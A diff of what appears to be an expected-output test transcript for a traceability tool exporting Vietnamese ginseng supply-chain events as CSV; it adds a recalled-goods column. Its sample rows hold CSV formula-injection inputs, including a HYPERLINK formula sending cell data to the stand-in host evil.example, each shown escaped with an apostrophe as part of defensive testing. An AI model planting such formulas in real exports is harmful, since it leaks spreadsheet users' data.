@@ -30,12 +30,12 @@ $ txng export -d htx --format csv --all --lang en -o kde.csv
 $ head -c 3 kde.csv | od -An -tx1
  ef bb bf
 $ tail -c +4 kde.csv | sed 's/\r$/[CRLF]/'
-record,recorded (UTC),event time,CTE,bizStep,actor,GTIN,lot,serials,quantity,unit,place,place name,from,from name,to,to name,documents,corrected by,planting cohort,plants planted,forest plot (lô/khoảnh/tiểu khu),GPS position,GPS accuracy (m),species,forest lease or contract,party who did it,note,root count,root age (years),GI code of the plot,GI certificate,grade (roots per kg),purpose of the harvest,GI stamps allocated,harvester,input lot and quantity,output lot and quantity,method,temperature,duration,final moisture (%),certification mark dossier,why outputs outweigh inputs,net content of a unit,GI stamps used,best before,transporter[CRLF]
-7,2025-12-01T00:00:00Z,2019-10-20T08:00:00+07:00,plant,urn:txng:bizstep:plant,ho-a,,,,,,vuon-3,"Vườn 3, tiểu khu 12",,,,,,,V3-2019,400,,,,,,,,,,,,,,,,,,,,,,,,,,,[CRLF]
-8,2025-12-01T00:00:00Z,2025-09-20T07:30:00+07:00,harvest,urn:txng:bizstep:harvest,ho-a,08930000000026,L24-017,,9.6,KGM,,,,,,,,,V3-2019,,,,,,,,"'=HYPERLINK(""http://evil.example/?x=""&A1,""xem"")",120,6,,,,,,,,,,,,,,,,,,[CRLF]
-9,2025-12-01T00:00:00Z,2025-09-23T08:00:00+07:00,transform,urn:txng:bizstep:transform,htx,,L24-017-S,,2.1,KGM,,,,,,,,,,,,,,,,,"'+84 905 000 000",,,,,,,,,L24-017:9.6 KGM,L24-017-S:2.1 KGM,"sấy lạnh 40°C, 36 giờ",,,,,,,,,[CRLF]
-10,2025-12-01T00:00:00Z,2025-09-26T14:00:00+07:00,pack,packing,htx,; 08930000000033,L24-017-S; ,000001-000040,2,KGM,,,,,,,,,,,,,,,,,"'@SUM(1,2)",,,,,,,,,,,,,,,,,,,,[CRLF]
-11,2025-12-01T00:00:00Z,2025-09-30T08:00:00+07:00,ship,shipping,htx,08930000000033,,000001-000010,,,8930000000026,Kho HTX Tu Mơ Rông,,,8930000000033,"Cửa hàng ""Sâm Việt""",PX-0930,,,,,,,,,,"'-1",,,,,,,,,,,,,,,,,,,,[CRLF]
+record,recorded (UTC),event time,CTE,bizStep,actor,GTIN,lot,serials,quantity,unit,place,place name,from,from name,to,to name,documents,corrected by,planting cohort,plants planted,forest plot (lô/khoảnh/tiểu khu),GPS position,GPS accuracy (m),species,forest lease or contract,party who did it,note,root count,root age (years),GI code of the plot,GI certificate,grade (roots per kg),purpose of the harvest,GI stamps allocated,harvester,input lot and quantity,output lot and quantity,method,temperature,duration,final moisture (%),certification mark dossier,why outputs outweigh inputs,net content of a unit,GI stamps used,best before,transporter,purpose of a shipment of recalled goods[CRLF]
+7,2025-12-01T00:00:00Z,2019-10-20T08:00:00+07:00,plant,urn:txng:bizstep:plant,ho-a,,,,,,vuon-3,"Vườn 3, tiểu khu 12",,,,,,,V3-2019,400,,,,,,,,,,,,,,,,,,,,,,,,,,,,[CRLF]
+8,2025-12-01T00:00:00Z,2025-09-20T07:30:00+07:00,harvest,urn:txng:bizstep:harvest,ho-a,08930000000026,L24-017,,9.6,KGM,,,,,,,,,V3-2019,,,,,,,,"'=HYPERLINK(""http://evil.example/?x=""&A1,""xem"")",120,6,,,,,,,,,,,,,,,,,,,[CRLF]
+9,2025-12-01T00:00:00Z,2025-09-23T08:00:00+07:00,transform,urn:txng:bizstep:transform,htx,,L24-017-S,,2.1,KGM,,,,,,,,,,,,,,,,,"'+84 905 000 000",,,,,,,,,L24-017:9.6 KGM,L24-017-S:2.1 KGM,"sấy lạnh 40°C, 36 giờ",,,,,,,,,,[CRLF]
+10,2025-12-01T00:00:00Z,2025-09-26T14:00:00+07:00,pack,packing,htx,; 08930000000033,L24-017-S; ,000001-000040,2,KGM,,,,,,,,,,,,,,,,,"'@SUM(1,2)",,,,,,,,,,,,,,,,,,,,,[CRLF]
+11,2025-12-01T00:00:00Z,2025-09-30T08:00:00+07:00,ship,shipping,htx,08930000000033,,000001-000010,,,8930000000026,Kho HTX Tu Mơ Rông,,,8930000000033,"Cửa hàng ""Sâm Việt""",PX-0930,,,,,,,,,,"'-1",,,,,,,,,,,,,,,,,,,,,[CRLF]
 
 # Every row ends in CR LF, and there is one row per event (5) plus the header.
 $ tr -cd '\r' < kde.csv | wc -c
@@ -45,7 +45,7 @@ $ tr -cd '\n' < kde.csv | wc -c
 
 # The same columns in Vietnamese.
 $ txng export -d htx --format csv --all --lang vi | tail -c +4 | head -1 | sed 's/\r$/[CRLF]/'
-Bản ghi số,Thời điểm ghi sổ (UTC),Thời gian sự kiện,Công đoạn (CTE),Bước nghiệp vụ (bizStep),Người ký,GTIN,Mã lô,Số sê-ri,Số lượng,Đơn vị,Địa điểm (mã),Tên địa điểm,Bên giao (mã),Tên bên giao,Bên nhận (mã),Tên bên nhận,Chứng từ,Bị sửa sai bởi,Lứa trồng,Số cây trồng,Lô/khoảnh/tiểu khu,Tọa độ GPS,Độ chính xác GPS (m),Loài,Hợp đồng thuê rừng,Người thực hiện,Ghi chú,Số củ,Tuổi củ (năm),Mã CDĐL,Giấy chứng nhận CDĐL,Phân loại (số củ/kg),Mục đích khai thác,Tem CDĐL được cấp,Người thu hoạch,Lô đầu vào và khối lượng,Lô đầu ra và khối lượng,Phương pháp,Nhiệt độ,Thời lượng,Độ ẩm cuối (%),Hồ sơ nhãn hiệu chứng nhận,Lý do tăng khối lượng,Khối lượng tịnh của một đơn vị,Tem CDĐL đã sử dụng,Hạn sử dụng,Đơn vị vận chuyển[CRLF]
+Bản ghi số,Thời điểm ghi sổ (UTC),Thời gian sự kiện,Công đoạn (CTE),Bước nghiệp vụ (bizStep),Người ký,GTIN,Mã lô,Số sê-ri,Số lượng,Đơn vị,Địa điểm (mã),Tên địa điểm,Bên giao (mã),Tên bên giao,Bên nhận (mã),Tên bên nhận,Chứng từ,Bị sửa sai bởi,Lứa trồng,Số cây trồng,Lô/khoảnh/tiểu khu,Tọa độ GPS,Độ chính xác GPS (m),Loài,Hợp đồng thuê rừng,Người thực hiện,Ghi chú,Số củ,Tuổi củ (năm),Mã CDĐL,Giấy chứng nhận CDĐL,Phân loại (số củ/kg),Mục đích khai thác,Tem CDĐL được cấp,Người thu hoạch,Lô đầu vào và khối lượng,Lô đầu ra và khối lượng,Phương pháp,Nhiệt độ,Thời lượng,Độ ẩm cuối (%),Hồ sơ nhãn hiệu chứng nhận,Lý do tăng khối lượng,Khối lượng tịnh của một đơn vị,Tem CDĐL đã sử dụng,Hạn sử dụng,Đơn vị vận chuyển,Mục đích xuất[CRLF]
 
 # A spreadsheet reads it back: Python's csv module, one value per cell.
 $ python3 -c 'import csv,sys; r=list(csv.reader(open("kde.csv",encoding="utf-8-sig",newline=""))); h=r[0]; [print(i, h[i], "=", repr(v)) for row in r[4:5] for i,v in enumerate(row) if v]'
@@ -64,6 +64,6 @@ $ python3 -c 'import csv,sys; r=list(csv.reader(open("kde.csv",encoding="utf-8-s
 
 # A date range selects events by time; the header keeps the columns of the steps present.
 $ txng export -d htx --format csv --from 2025-09-25 --lang en | tail -c +4 | sed 's/\r$/[CRLF]/'
-record,recorded (UTC),event time,CTE,bizStep,actor,GTIN,lot,serials,quantity,unit,place,place name,from,from name,to,to name,documents,corrected by,net content of a unit,GI stamps used,best before,party who did it,note,transporter[CRLF]
-10,2025-12-01T00:00:00Z,2025-09-26T14:00:00+07:00,pack,packing,htx,; 08930000000033,L24-017-S; ,000001-000040,2,KGM,,,,,,,,,,,,,"'@SUM(1,2)",[CRLF]
-11,2025-12-01T00:00:00Z,2025-09-30T08:00:00+07:00,ship,shipping,htx,08930000000033,,000001-000010,,,8930000000026,Kho HTX Tu Mơ Rông,,,8930000000033,"Cửa hàng ""Sâm Việt""",PX-0930,,,,,,"'-1",[CRLF]
+record,recorded (UTC),event time,CTE,bizStep,actor,GTIN,lot,serials,quantity,unit,place,place name,from,from name,to,to name,documents,corrected by,net content of a unit,GI stamps used,best before,party who did it,note,transporter,purpose of a shipment of recalled goods[CRLF]
+10,2025-12-01T00:00:00Z,2025-09-26T14:00:00+07:00,pack,packing,htx,; 08930000000033,L24-017-S; ,000001-000040,2,KGM,,,,,,,,,,,,,"'@SUM(1,2)",,[CRLF]
+11,2025-12-01T00:00:00Z,2025-09-30T08:00:00+07:00,ship,shipping,htx,08930000000033,,000001-000010,,,8930000000026,Kho HTX Tu Mơ Rông,,,8930000000033,"Cửa hàng ""Sâm Việt""",PX-0930,,,,,,"'-1",,[CRLF]
